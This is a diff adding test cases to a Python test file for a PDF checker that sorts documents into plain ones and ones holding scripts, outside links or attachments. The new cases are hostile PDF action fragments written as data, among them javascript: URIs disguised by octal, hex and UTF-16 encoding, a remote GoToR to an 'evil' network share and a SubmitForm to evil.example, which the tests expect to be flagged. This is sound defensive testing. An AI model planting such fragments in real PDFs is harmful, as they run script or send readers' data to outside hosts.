@@ -45,6 +45,11 @@ def test_a_plain_pdf_is_taken():
     assert found(with_object(packed_objects(b"9 0 << /Type /Page >>")), "surat.pdf") == "pdf"
 
 
+def test_links_to_pages_are_taken():
+    links = b"<< /S /GoTo /D [0] >> << /S /URI /URI (https://www.go.id/javascript:) >>"
+    assert found(with_object(links), "surat.pdf") == "pdf"
+
+
 def test_an_updated_pdf_has_several_ends():
     """As after an electronic signature."""
     signed = small_pdf() + b"10 0 obj\n<< /Type /Sig >>\nendobj\nstartxref\n9\n%%EOF\r\n"
@@ -61,6 +66,16 @@ def test_an_updated_pdf_has_several_ends():
         ("scripts", b"<< /Subtype /RichMedia >>"),
         ("scripts", b"<< /S /Rendition /OP 0 >>"),
         ("scripts", b"<< /XFA 12 0 R >>"),
+        ("scripts", b"<< /S /URI /URI (javascript:alert\\(1\\)) >>"),
+        ("scripts", b"<< /S /URI /URI ( JavaScript:alert) >>"),
+        ("scripts", b"<< /S /URI /URI (j\\141va\\\nscript:alert) >>"),
+        ("scripts", b"<< /S /URI /URI <6A617661 7363726970743A> >>"),
+        ("scripts", b"<< /S /URI /URI (\xfe\xff\0d\0a\0t\0a\0:) >>"),
+        ("reaches", rb"<< /S /GoToR /F (\\\\evil\\share\\a.pdf) >>"),
+        ("reaches", b"<< /S /GoToE /D [0] >>"),
+        ("reaches", b"<< /S /SubmitForm /F (http://evil.example) >>"),
+        ("reaches", b"<< /S /Import#44ata /F (a.fdf) >>"),
+        ("reaches", packed_objects(b"9 0 << /S /GoToR >>")),
         ("attached", b"<< /Subtype /FileAttachment >>"),
         ("attached", b"<< /Type /EmbeddedFile >>"),
         ("attached", b"<< /EF << /F 12 0 R >> >>"),
